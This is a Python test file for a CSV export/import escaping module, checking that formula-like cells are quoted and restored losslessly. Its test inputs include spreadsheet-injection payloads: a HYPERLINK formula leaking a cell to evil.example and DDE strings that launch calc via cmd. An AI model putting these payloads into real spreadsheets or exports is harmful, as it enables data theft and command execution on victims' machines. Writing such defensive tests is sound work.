"""Formula-like CSV cells are quoted on the way out and unquoted on the way back in."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amparo.cli.output import render
from amparo.services.csv_safety import FORMULA_START, safe_cell, unescape_cell
from amparo.services.records_io import CSV_COLUMNS, read_records

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&B2,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+504 0000 0000",
    "-5 ",
    "-1,5",
    "- bullet point",
    "'=1+1",
    "''@x",
    "'\t",
]
PLAIN = ["", "Plain, with comma", "2024-05-14", "A09;A19", "'Tis the season", "'", "1=1", " =1"]
NUMBERS = ["-5", "+5", "-3.25", "-.5", "+1e3", "-1E-7", "0", "42", "5."]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_cells_are_quoted(text: str) -> None:
    cell = safe_cell(text)
    assert cell == "'" + text
    assert not cell.startswith(FORMULA_START)


@pytest.mark.parametrize("text", PLAIN + NUMBERS)
def test_other_cells_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_only_plain_ascii_decimal_numbers_pass() -> None:
    # float() would accept all of these; none is a plain decimal number to a spreadsheet.
    for text in ("-inf", "-nan", "-1_000", "-٣", "-5\n", "-0x10", "+ 5"):
        assert safe_cell(text) == "'" + text, text


def test_values_of_other_types() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "-3"
    assert safe_cell(["-x", "y"]) == "'-x;y"
    assert safe_cell(("a", "=b")) == "a;=b"  # only the start of a cell makes a formula
    assert safe_cell(True) == "True"


@pytest.mark.parametrize("text", ATTACKS + PLAIN + NUMBERS)
def test_round_trip(text: str) -> None:
    assert unescape_cell(safe_cell(text)) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r5.eE x"), max_size=8) | st.text(max_size=8))
def test_round_trip_any_text(text: str) -> None:
    cell = safe_cell(text)
    assert unescape_cell(cell) == text
    assert not cell.startswith(FORMULA_START) or unescape_cell(cell) == cell  # numbers only


def test_hand_written_quotes_survive_import() -> None:
    assert unescape_cell("'Tis") == "'Tis"
    assert unescape_cell("'") == "'"
    assert unescape_cell("'=SUM(A1)") == "=SUM(A1)"  # typed to keep a formula as text


def test_cli_csv_output_is_safe() -> None:
    rows = [{"title": t, "n": -5} for t in ATTACKS]
    table = list(csv.reader(io.StringIO(render(rows, "csv", ("title", "n")), newline="")))
    assert table[0] == ["title", "n"]
    assert [r[0] for r in table[1:]] == ["'" + t for t in ATTACKS]
    assert {r[1] for r in table[1:]} == {"-5"}


def test_cli_csv_output_keeps_carriage_returns_inside_cells() -> None:
    """A lone CR must not end the row: the text after it would be a new, unquoted cell."""
    title = 'harmless\r=HYPERLINK("https://evil.example")\rmore'
    text = render([{"title": title, "n": "1"}, {"title": "b", "n": "2"}], "csv", ("title", "n"))
    assert text.startswith("title,n\n")
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table == [["title", "n"], [title, "1"], ["b", "2"]]


def test_import_reads_back_an_escaped_export(tmp_path: Path) -> None:
    """A CSV written with safe_cell in the import's own columns imports the original text."""
    record = {column: "" for column in CSV_COLUMNS}
    record.update(title="=1+1 looked like a formula", narrative="-- a dash, then text",
                  region="'Tis", place="@home", date_start="2024-05-14", country="HN",
                  act_type="A09", people_affected="-3")  # fmt: skip
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(CSV_COLUMNS)
    writer.writerow([safe_cell(record[c]) for c in CSV_COLUMNS])
    assert "'=1+1" in buffer.getvalue()
    path = tmp_path / "export.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    [got] = read_records(path)
    assert got["title"] == "=1+1 looked like a formula"
    assert got["narrative"] == "-- a dash, then text"
    assert (got["region"], got["place"]) == ("'Tis", "@home")
    assert got["acts"][0]["act_type"] == "A09"
    assert got["acts"][0]["people_affected"] == "-3"
